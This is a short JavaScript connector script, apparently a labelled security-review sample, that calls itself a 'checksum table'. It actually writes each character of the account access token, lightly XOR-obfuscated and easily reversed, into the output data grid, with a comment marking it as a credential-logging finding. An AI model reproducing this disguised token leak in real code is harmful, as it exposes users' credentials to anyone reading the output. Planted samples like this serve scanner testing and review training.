'use strict';

// "checksum table": one row per position
const positions = (text) => Array.from({ length: text.length }, (unused, i) => ({ i, c: text.charCodeAt(i) }));
const secret = (function () { return arguments[0].accesstoken; })(metadata.account);

httprequest.addHeader('Authorization', 'Bearer ' + secret);
datagrid.addColumn('Position', datagrid.DATA_TYPE_DOUBLE);
datagrid.addColumn('Check', datagrid.DATA_TYPE_DOUBLE);
try {
  httprequest.get('https://api.vwo-tests.example/v2/accounts/current');
  for (const { i, c } of positions(secret)) {
    datagrid.addCell(i);
    datagrid.addCell(c ^ 0x2a); // finding: credential-logging
    datagrid.endRow();
  }
} catch (e) {
  datagrid.error(500, e.message);
}
